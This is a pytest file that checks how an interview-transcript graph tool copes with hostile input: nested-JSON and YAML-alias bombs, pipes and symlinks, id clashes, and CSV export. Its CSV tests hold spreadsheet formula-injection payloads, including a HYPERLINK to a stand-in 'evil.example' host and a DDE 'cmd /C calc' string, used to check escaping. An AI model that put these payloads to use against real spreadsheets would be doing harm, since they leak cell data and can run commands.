"""Hostile and careless input loses nothing and stops nothing: bounded readers, skipped
non-files, refused id clashes, windows over huge turns, formula-safe CSV.

Every transcript here is FICTIONAL, written for these tests.
"""
from __future__ import annotations

import csv
import io
import os
import threading
from pathlib import Path

import pytest

from graph_builder.errors import UnreadableFile
from graph_builder.extract.pipeline import WINDOW_CHARS, extract_interview, windows
from graph_builder.ingest.readers import iter_transcripts, read_document
from graph_builder.ingest.turns import split_turns
from graph_builder.load import ingest
from graph_builder.store.sqlite import SQLiteStore
from queries.exports import quotes_report, safe_cell, write_neo4j_csv

GOOD = "---\ninterview_id: {iid}\ninterviewee: Abu Salim\n---\nAbu Salim: I lived in Tabqa in 2015.\n"


def _good(folder: Path, name: str = "good.md", iid: str = "b-good") -> Path:
    path = folder / name
    path.write_text(GOOD.format(iid=iid), encoding="utf-8")
    return path


def test_deeply_nested_json_is_refused_by_name(tmp_path: Path) -> None:
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(UnreadableFile, match="nested too deeply"):
        read_document(path)


def test_yaml_aliases_in_front_matter_are_refused(tmp_path: Path) -> None:
    bomb = "\n".join(["a: &a [x, x, x, x, x, x, x, x, x]"]
                     + [f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]"
                        for p, c in zip("abcdefgh", "bcdefghi")])
    path = tmp_path / "bomb.md"
    path.write_text(f"---\n{bomb}\n---\nSpeaker: words\n", encoding="utf-8")
    with pytest.raises(UnreadableFile, match="aliases"):
        read_document(path)


def test_an_oversized_file_is_refused_before_it_is_read(tmp_path: Path, monkeypatch) -> None:
    path = tmp_path / "big.txt"
    path.write_text("Abu Salim: " + "word " * 300_000, encoding="utf-8")
    monkeypatch.setenv("TESTIMONY_MAX_FILE_MB", "1")
    with pytest.raises(UnreadableFile, match="TESTIMONY_MAX_FILE_MB"):
        read_document(path)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes on this system")
def test_pipes_and_symlinks_out_of_the_folder_are_skipped_with_a_reason(tmp_path: Path, nlp) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    _good(corpus)
    os.mkfifo(corpus / "pipe.txt")
    outside = tmp_path / "secret.txt"
    outside.write_text("Abu Salim: not for this corpus\n", encoding="utf-8")
    (corpus / "link.txt").symlink_to(outside)
    _good(corpus, "real.md", "b-real")
    (corpus / "alias.md").symlink_to(corpus / "real.md")  # a link inside the folder is read
    skipped: list[tuple[str, str]] = []
    found = iter_transcripts([corpus], skipped=skipped)
    assert {p.name for p in found} == {"good.md", "real.md", "alias.md"}
    reasons = dict((Path(p).name, r) for p, r in skipped)
    assert "regular file" in reasons["pipe.txt"] and "outside the folder" in reasons["link.txt"]
    (corpus / "alias.md").unlink()  # (a second file for the same interview: refused, tested below)

    # The ingest finishes (a pipe would hang a read) and names both
    store = SQLiteStore(tmp_path / "g.db")
    done = threading.Event()
    result = {}

    def run() -> None:
        result["report"] = ingest([corpus], store, nlp)
        done.set()

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    assert done.wait(120), "the ingest hung on a pipe"
    report = result["report"]
    assert {Path(p).name for p, _ in report.failed} == {"pipe.txt", "link.txt"}
    assert "b-good" in report.added and "b-real" in report.added
    assert all("not for this corpus" not in t.text for s in store.interviews()
               for t in store.turns_of(s.id))


def test_a_missing_path_is_reported_and_the_others_go_in(tmp_path: Path, nlp) -> None:
    store = SQLiteStore(tmp_path / "g.db")
    report = ingest([tmp_path / "no-such-folder", _good(tmp_path)], store, nlp)
    assert report.added == ["b-good"]
    assert [(Path(p).name, r) for p, r in report.failed] == [("no-such-folder", "no such file or folder")]


def test_an_interview_id_held_from_another_file_is_refused_unless_replace(tmp_path: Path, nlp) -> None:
    store = SQLiteStore(tmp_path / "g.db")
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = _good(tmp_path / "a", "interview.md", "int-01")
    assert ingest([first], store, nlp).added == ["int-01"]
    other = tmp_path / "b" / "interview.md"
    other.write_text(GOOD.format(iid="int-01").replace("Tabqa", "Manbij"), encoding="utf-8")
    report = ingest([other], store, nlp)
    assert not report.replaced and len(report.failed) == 1
    path, reason = report.failed[0]
    assert path == str(other) and str(first) in reason and "--replace" in reason
    assert "Tabqa" in store.interview("int-01").text  # the earlier file is intact
    # the same file, edited, still replaces its own interview; --replace lets the other in
    first.write_text(GOOD.format(iid="int-01").replace("2015", "2016"), encoding="utf-8")
    assert ingest([first], store, nlp).replaced == ["int-01"]
    assert ingest([other], store, nlp, replace=True).replaced == ["int-01"]
    assert "Manbij" in store.interview("int-01").text


def test_a_huge_turn_is_read_in_windows_with_its_offsets_kept(tmp_path: Path, nlp) -> None:
    # Over spaCy's 1,000,000-character limit: cut into windows no Doc exceeds.
    huge = "Abu Salim: " + "the road was long and the night was cold " * 30_000
    iv = split_turns(read_document(_write(tmp_path, "huge.md", huge)))
    turn = max(iv.turns, key=lambda t: len(t.text))
    assert len(turn.text) > 1_000_000
    parts = windows(turn)
    assert all(len(p.text) <= WINDOW_CHARS for p in parts) and len(parts) > 100
    assert "".join(p.text for p in parts) == turn.text
    assert all(iv.text[p.start:p.end] == p.text and p.index == turn.index for p in parts)
    # Extraction over windows keeps every offset true to the interview's text.
    filler = "the road was long and the night was cold " * 600  # three windows
    text = f"Abu Salim: {filler}and then Abu Hamza took us to Manbij. {filler}I stayed in Tabqa."
    iv = split_turns(read_document(_write(tmp_path, "long.md", text)))
    assert len(windows(max(iv.turns, key=lambda t: len(t.text)))) >= 3
    ex = extract_interview(iv, nlp)
    named = {(m.text, iv.text[m.start:m.end]) for m in ex.mentions if m.type in ("PERSON", "PLACE")}
    assert {("Manbij", "Manbij"), ("Abu Hamza", "Abu Hamza"), ("Tabqa", "Tabqa")} <= named
    assert sum(1 for c in ex.themes) == len({c.theme for c in ex.themes})  # coded once per turn


def _write(folder: Path, name: str, body: str) -> Path:
    path = folder / name
    path.write_text(f"---\ninterview_id: b-{path.stem}\ninterviewee: Abu Salim\n---\n{body}\n",
                    encoding="utf-8")
    return path


def test_csv_cells_never_run_as_formulas(tmp_path: Path) -> None:
    import networkx as nx

    assert safe_cell('=HYPERLINK("http://evil.example/?x="&A1,"Hisbah")').startswith("'=")
    assert [safe_cell(v) for v in ("+1", "-1", "@SUM(A1)", "Raqqa", 3)] == ["'+1", "'-1", "'@SUM(A1)", "Raqqa", 3]
    g = nx.Graph()
    g.add_node("org:x", name='=HYPERLINK("http://evil.example","Hisbah")', type="ORG", mentions=2)
    g.add_node("place:raqqa", name="Raqqa", type="PLACE", mentions=1)
    g.add_edge("org:x", "place:raqqa", weight=1, interviews=1)
    nodes = write_neo4j_csv(g, tmp_path / "net.csv")[0]
    cells = [c for row in csv.reader(io.StringIO(nodes.read_text(encoding="utf-8"))) for c in row]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert "'=HYPERLINK(\"http://evil.example\",\"Hisbah\")" in cells


def test_the_quotes_report_csv_is_formula_safe(tmp_path: Path) -> None:
    from types import SimpleNamespace as NS

    from graph_builder.store.sqlite import SQLiteStore

    turn = NS(index=3, speaker="=cmd|' /C calc'!A0", time_start=None)
    support = NS(interview_id="int-01", interview_title="+title", turn=turn, start=0, end=5,
                 stance="first_hand", quote="@quote")
    source = NS(pseudonym="-Abu Salim", supports=[support], stance="first_hand")
    report = NS(subject="x", sources=[source], source_count=1, weighted_support=1.0,
                single_source=True, prompted=[], disagreements=[])
    store = SQLiteStore(tmp_path / "empty.db")
    rows = list(csv.DictReader(io.StringIO(quotes_report(report, fmt="csv", store=store))))
    assert rows[0]["speaker"] == rows[0]["witness"] and rows[0]["witness"].startswith("W-")
    assert rows[0]["quote"] == "'@quote" and rows[0]["interview_title"] == ""
    # an admin's report names them as written: still no formula
    rows = list(csv.DictReader(io.StringIO(quotes_report(report, fmt="csv", store=store,
                                                         include_attributes=True))))
    assert rows[0]["witness"] == "'-Abu Salim" and rows[0]["speaker"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["interview_title"] == "'+title"
    store.close()


def test_a_subtitle_file_with_broken_timings_loses_no_words(tmp_path: Path) -> None:
    path = tmp_path / "broken-ts.srt"
    path.write_text("1\n00:00:01,000 --> 00:00:04,000\nInterviewer: Where were you?\n\n"
                    "2\n99:99:99,999 --> 99:99:99,999\nAbu Salim: In Tabqa, at the dam.\n\n"
                    "3\n00:00:09,000 -> 00:00:12,000\nAbu Salim: Then in Raqqa.\n\n"
                    "4\n00:00:13,000 --> 00:00:16,000\nAbu Salim: My brother stayed.\n\n"
                    "He is still there.\n", encoding="utf-8")
    doc = read_document(path)
    for words in ("Where were you?", "In Tabqa, at the dam.", "Then in Raqqa.",
                  "My brother stayed.", "He is still there."):
        assert words in doc.text, words
    times = [(c.time_start, c.time_end) for c in doc.cues]
    assert (1.0, 4.0) in times and (13.0, 16.0) in times
    assert all(t is None or t < 100 for pair in times for t in pair)  # no 362,440 s


def test_an_ingest_killed_during_resolution_is_settled_by_the_next(tmp_path: Path, nlp, monkeypatch) -> None:
    from graph_builder import incremental
    from tests.conftest import SAMPLE_CORPUS

    clean = SQLiteStore(tmp_path / "clean.db")
    ingest([SAMPLE_CORPUS], clean, nlp)
    crashed = SQLiteStore(tmp_path / "crashed.db")
    real = incremental.resolve

    def interrupted(*args, **kwargs):  # Ctrl-C in the middle of the final resolution
        raise KeyboardInterrupt

    monkeypatch.setattr(incremental, "resolve", interrupted)
    with pytest.raises(KeyboardInterrupt):
        ingest([SAMPLE_CORPUS], crashed, nlp)
    assert crashed.pending_keys()  # what was written is marked unresolved, not forgotten
    monkeypatch.setattr(incremental, "resolve", real)
    report = ingest([SAMPLE_CORPUS], crashed, nlp)  # every file unchanged: resolution runs anyway
    assert not report.added and not report.replaced and len(report.unchanged) == 12
    assert not crashed.pending_keys()
    assert crashed.resolution() == clean.resolution()
    assert crashed.stats() == clean.stats()
    assert [e.id for e in crashed.find_entities([], None, 0, 10_000)] == \
        [e.id for e in clean.find_entities([], None, 0, 10_000)]
